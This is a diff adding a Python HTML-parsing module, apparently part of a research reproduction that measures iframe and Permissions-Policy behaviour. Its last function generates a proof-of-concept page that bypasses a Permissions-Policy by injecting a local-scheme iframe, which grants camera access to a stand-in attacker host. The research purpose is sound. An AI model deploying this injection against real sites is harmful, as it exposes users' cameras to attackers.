@@ -1,0 +1,177 @@
+"""HTML front-end: parse markup into document content.
+
+The synthetic web hands the loader structured
+:class:`~repro.browser.dom.DocumentContent`; real crawls start from markup.
+This module bridges the two with a stdlib ``html.parser`` based extractor
+that collects exactly what the paper's pipeline reads from a page:
+
+* every ``<iframe>`` with the Section 3.1.2 attribute list (``id``,
+  ``name``, ``class``, ``src``, ``allow``, ``sandbox``, ``srcdoc``,
+  ``loading``),
+* every ``<script>`` — external ones by ``src``, inline ones with their
+  body as the static-analysis source text.
+
+Inline script *behaviour* cannot be derived from source (we are not a JS
+engine); callers attach operations by URL through a script registry, the
+same way the synthetic fetcher does.  For the measurement this is the
+right split: static analysis works on the parsed source either way, and
+dynamic behaviour always comes from the (simulated) runtime.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from html.parser import HTMLParser
+from typing import Callable
+from urllib.parse import quote, unquote
+
+from repro.browser.dom import DocumentContent, IframeElement
+from repro.browser.scripts import Script
+
+#: The iframe attributes the crawler stores (paper Section 3.1.2).
+IFRAME_ATTRIBUTES: tuple[str, ...] = (
+    "id", "name", "class", "src", "allow", "sandbox", "srcdoc", "loading")
+
+
+class _Extractor(HTMLParser):
+    """Single-pass extractor for iframes and scripts."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.iframes: list[dict[str, str]] = []
+        self.external_scripts: list[str] = []
+        self.inline_scripts: list[str] = []
+        self._in_script = False
+        self._script_chunks: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]
+                        ) -> None:
+        attributes = {name.lower(): (value or "") for name, value in attrs}
+        if tag == "iframe":
+            record = {name: attributes[name] for name in IFRAME_ATTRIBUTES
+                      if name in attributes}
+            self.iframes.append(record)
+        elif tag == "script":
+            src = attributes.get("src")
+            if src:
+                self.external_scripts.append(src)
+            else:
+                self._in_script = True
+                self._script_chunks = []
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag == "script" and self._in_script:
+            self._in_script = False
+            self.inline_scripts.append("".join(self._script_chunks))
+
+    def handle_data(self, data: str) -> None:
+        if self._in_script:
+            self._script_chunks.append(data)
+
+
+@dataclass
+class ParsedHtml:
+    """Raw extraction result, before script resolution."""
+
+    iframes: list[dict[str, str]] = field(default_factory=list)
+    external_scripts: list[str] = field(default_factory=list)
+    inline_scripts: list[str] = field(default_factory=list)
+
+
+def parse_html(markup: str) -> ParsedHtml:
+    """Extract iframes and scripts from markup.  Never raises on malformed
+    input — browsers don't either."""
+    extractor = _Extractor()
+    extractor.feed(markup)
+    extractor.close()
+    return ParsedHtml(iframes=extractor.iframes,
+                      external_scripts=extractor.external_scripts,
+                      inline_scripts=extractor.inline_scripts)
+
+
+def iframe_from_attributes(attributes: dict[str, str]) -> IframeElement:
+    """Build an :class:`IframeElement` from parsed attributes."""
+    return IframeElement(
+        src=attributes.get("src"),
+        allow=attributes.get("allow"),
+        sandbox=attributes.get("sandbox"),
+        srcdoc=attributes.get("srcdoc"),
+        element_id=attributes.get("id", ""),
+        name=attributes.get("name", ""),
+        css_class=attributes.get("class", ""),
+        loading=attributes.get("loading", ""),
+    )
+
+
+def document_content_from_html(
+    markup: str,
+    *,
+    script_resolver: Callable[[str], Script | None] | None = None,
+    parse_srcdoc: bool = True,
+) -> DocumentContent:
+    """Turn markup into loader-ready :class:`DocumentContent`.
+
+    Args:
+        markup: The document's HTML.
+        script_resolver: Maps an external script URL to a full
+            :class:`Script` (source + operations); unresolvable externals
+            become source-less stubs that static analysis simply skips.
+        parse_srcdoc: Recursively parse ``srcdoc`` iframes into
+            ``local_content`` so nested trees (like the PoC) load fully.
+    """
+    parsed = parse_html(markup)
+    scripts: list[Script] = []
+    for url in parsed.external_scripts:
+        resolved = script_resolver(url) if script_resolver else None
+        scripts.append(resolved if resolved is not None
+                       else Script(url=url, source=""))
+    for body in parsed.inline_scripts:
+        scripts.append(Script(url=None, source=body))
+    iframes: list[IframeElement] = []
+    for attributes in parsed.iframes:
+        element = iframe_from_attributes(attributes)
+        if parse_srcdoc and element.srcdoc:
+            element.local_content = document_content_from_html(
+                element.srcdoc, script_resolver=script_resolver,
+                parse_srcdoc=parse_srcdoc)
+        elif (parse_srcdoc and element.src
+              and element.src.startswith("data:text/html,")):
+            payload = unquote(element.src[len("data:text/html,"):])
+            element.local_content = document_content_from_html(
+                payload, script_resolver=script_resolver,
+                parse_srcdoc=parse_srcdoc)
+        iframes.append(element)
+    return DocumentContent(scripts=scripts, iframes=iframes)
+
+
+def render_poc_html(*, victim_header: str = "camera=(self)",
+                    attacker_url: str = "https://attacker.example/steal",
+                    scheme: str = "data") -> str:
+    """The local-scheme PoC page as actual HTML (paper's PoC repo [13]).
+
+    The returned page is what an attacker would inject into the victim:
+    a local-scheme iframe whose payload re-delegates the camera to the
+    attacker origin.
+    """
+    inner = (f'<iframe src="{attacker_url}" allow="camera"></iframe>'
+             '<script>/* attacker-controlled document */</script>')
+    if scheme == "data":
+        # Percent-encode the payload like real PoCs do — raw quotes and
+        # angle brackets inside an attribute value would not survive
+        # parsing otherwise.
+        outer_iframe = (f'<iframe src="data:text/html,{quote(inner)}">'
+                        '</iframe>')
+    else:
+        escaped = inner.replace('"', "&quot;")
+        outer_iframe = f'<iframe srcdoc="{escaped}"></iframe>'
+    return f"""<!doctype html>
+<!-- Served with: Permissions-Policy: {victim_header} -->
+<html>
+  <head><title>Local-scheme Permissions-Policy bypass PoC</title></head>
+  <body>
+    <h1>victim.example</h1>
+    <!-- injected by the attacker (possible when CSP lacks frame-src) -->
+    {outer_iframe}
+  </body>
+</html>
+"""
